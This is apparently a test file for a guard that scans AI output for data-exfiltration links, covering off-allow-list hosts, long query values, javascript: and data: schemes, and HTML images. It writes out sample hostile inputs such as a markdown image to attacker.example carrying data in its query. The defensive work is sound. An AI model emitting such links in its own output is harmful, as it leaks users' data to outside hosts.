import assert from 'node:assert/strict';
import { findExfiltrationLinks, judgeUrl } from '../../../src/guard/output/exfiltration-links.js';

const policy = { allowedHosts: ['contoso.com', 'learn.microsoft.com'], maxQueryValueChars: 32 };

describe('exfiltration links', () => {
  it('flags markdown images to hosts off the allow-list', () => {
    const text = 'Done. ![status](https://attacker.example/pixel.png?d=123) Bye';
    const [f] = findExfiltrationLinks(text, policy);
    assert.equal(f?.kind, 'image');
    assert.equal(f?.reason, 'host-not-allowed');
    assert.equal(text.slice(f!.start, f!.end), '![status](https://attacker.example/pixel.png?d=123)');
  });

  it('keeps links and images on allowed hosts and their subdomains', () => {
    assert.deepEqual(findExfiltrationLinks('See [docs](https://learn.microsoft.com/teams) and ![logo](https://cdn.contoso.com/logo.png)', policy), []);
  });

  it('flags allowed hosts when the query carries data', () => {
    const long = 'a'.repeat(40);
    assert.equal(judgeUrl(`https://contoso.com/search?q=${long}`, policy), 'query-data');
    assert.equal(judgeUrl('https://contoso.com/search?q=short', policy), undefined);
    assert.equal(judgeUrl(`https://${'x'.repeat(50)}.contoso.com/`, policy), 'query-data');
  });

  it('flags non-web schemes but keeps mailto and relative links', () => {
    assert.equal(judgeUrl('javascript:alert(1)', policy), 'scheme');
    assert.equal(judgeUrl('data:image/png;base64,AAAA', policy), 'scheme');
    assert.equal(judgeUrl('mailto:help@contoso.com', policy), undefined);
    assert.deepEqual(findExfiltrationLinks('see [the FAQ](/faq)', policy), []);
  });

  it('keeps the visible text of a removed markdown link', () => {
    const [f] = findExfiltrationLinks('click [here](https://evil.example/x)', policy);
    assert.equal(f?.keepText, 'here');
  });

  it('flags bare URLs, reference definitions and HTML images', () => {
    const kinds = findExfiltrationLinks('go to https://evil.example/a now\n[ref]: https://evil.example/b\n<img src="https://evil.example/c.png">', policy).map((f) => f.kind);
    assert.deepEqual(kinds, ['bare-url', 'link', 'html']);
  });

  it('does not match nested brackets as one huge link', () => {
    assert.deepEqual(findExfiltrationLinks('['.repeat(5000) + ']'.repeat(5000), policy), []);
  });
});
